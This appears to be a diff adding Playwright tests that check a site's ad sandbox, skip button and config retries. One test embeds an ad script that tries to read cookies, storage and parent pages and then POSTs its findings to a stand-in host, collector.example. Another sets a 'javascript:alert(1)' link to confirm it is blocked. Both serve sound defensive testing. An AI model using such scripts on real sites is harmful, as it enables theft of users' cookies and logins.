@@ -1,0 +1,118 @@
+import type { Page } from '@playwright/test'
+import { adOn, setAd } from '../support/ad-screen.ts'
+import { expect, test } from '../support/fixtures.ts'
+import { rateScreen } from '../support/rate-screen.ts'
+import { roundTrip } from '../support/round-trip.ts'
+import type { Site } from '../support/running-site.ts'
+import { addPhotos } from '../support/seeded-collection.ts'
+
+const setSkipButton = (site: Site, buttonText: string, buttonUrl: string) =>
+  site.saveSetting('skip-button', { buttonText, buttonUrl, isActive: true })
+
+/** What the page, and no frame in it, hears on a channel from its next load on. */
+const listenTo = async (page: Page, name: string) => {
+  await page.addInitScript((channel) => {
+    if (self !== top) return
+    const heard: unknown[] = []
+    new BroadcastChannel(channel).onmessage = ({ data }) => heard.push(data)
+    Object.assign(window, { heard })
+  }, name)
+  return () => page.evaluate((): unknown => Reflect.get(window, 'heard'))
+}
+
+test('an ad runs in its frame and reaches nothing of the site, even one that was saved to run in the page', async ({
+  page,
+  site,
+  problems,
+}) => {
+  problems.expect(/./)
+  await addPhotos(site, 1)
+  const collected = Promise.withResolvers<Record<string, string>>()
+  await page.route('https://collector.example/**', async (route) => {
+    if (route.request().method() === 'POST') collected.resolve(route.request().postDataJSON())
+    await route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' })
+  })
+  await setAd(
+    site,
+    `<p>Framed</p><script>
+      const found = { origin: self.origin }
+      const attempt = async (name, act) => {
+        try { found[name] = 'reached ' + (await act()) } catch (error) { found[name] = error.name }
+      }
+      ;(async () => {
+        await attempt('storage', () => localStorage.length)
+        await attempt('cookie', () => document.cookie)
+        await attempt('parent', () => parent.document.title)
+        await attempt('top', () => top.localStorage.length)
+        await attempt('channel', () => new BroadcastChannel('everybody').postMessage('from the ad'))
+        await attempt('api', async () => (await fetch('${site.url}/api/ad-config/zone1')).text())
+        await attempt('navigation', () => { top.location.href = 'https://elsewhere.example/' })
+        await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
+      })()
+    </script>`,
+  )
+  const heard = await listenTo(page, 'everybody')
+  await rateScreen(page).open()
+  await adOn(page).scrollIntoViewIfNeeded()
+  await expect(adOn(page).locator('iframe').contentFrame().getByText('Framed')).toBeVisible()
+  const found = await collected.promise
+  expect(found.origin).toBe('null')
+  // So there is no login to be found either, whenever and wherever the operator logs in.
+  for (const name of ['storage', 'cookie', 'parent', 'top']) expect(found[name], name).toBe('SecurityError')
+  expect(found.api).toMatch(/Error$/)
+  expect(found.channel).toBe('reached undefined')
+  // Whoever listens to a channel hears in the order in which was posted.
+  await page.evaluate(() => new BroadcastChannel('everybody').postMessage('from the page'))
+  await expect.poll(heard).not.toEqual([])
+  expect(await heard()).toEqual(['from the page'])
+  await expect(page).toHaveURL('/')
+})
+
+test('the skip button says what was set and leads there, by click and by key; to no address it skips', {
+  tag: '@phone',
+}, async ({ page, site }) => {
+  await addPhotos(site, 2)
+  await page.route('https://partner.example/**', (route) =>
+    route.fulfill({ contentType: 'text/html', body: 'Partner' }),
+  )
+  await setSkipButton(site, 'More like this', 'https://partner.example/more')
+  const rate = rateScreen(page)
+  const button = page.getByRole('button', { name: 'More like this' })
+  for (const press of [() => button.click(), () => page.keyboard.press('s')]) {
+    await rate.open()
+    // The label is not cut off.
+    const words = button.getByText('More like this', { exact: true })
+    expect(await words.evaluate(({ clientWidth, scrollWidth }) => scrollWidth - clientWidth)).toBe(0)
+    expect((await words.boundingBox())?.width).toBeGreaterThan(40)
+    await press()
+    await expect(page).toHaveURL('https://partner.example/more')
+  }
+
+  await setSkipButton(site, 'Next one', 'javascript:alert(1)')
+  await rate.open()
+  await page.getByRole('button', { name: 'Next one' }).click()
+  await rate.shown(2)
+  await expect(page).toHaveURL('/')
+})
+
+test('failing settings are asked for once more, and the page goes on without', async ({ page, site, problems }) => {
+  problems.expect(/^500 .*-config/)
+  await addPhotos(site, 2)
+  const asked: string[] = []
+  await page.route(/-config/, (route) => {
+    asked.push(new URL(route.request().url()).pathname)
+    return route.fulfill({ status: 500, body: 'broken' })
+  })
+  await page.clock.install()
+  const rate = rateScreen(page)
+  await rate.open()
+  const count = (path: string) => asked.filter((one) => one === path).length
+  const paths = ['/api/ad-config/skip-button', '/api/ad-config/zone1']
+  for (const path of paths) await expect.poll(() => count(path), path).toBe(2)
+  await rate.skip.click()
+  await rate.shown(2)
+  // Less than the 20 s after which an unanswered prefetch counts as an outage.
+  await page.clock.runFor(10_000)
+  await roundTrip(page)
+  for (const path of paths) expect(count(path), path).toBe(2)
+})
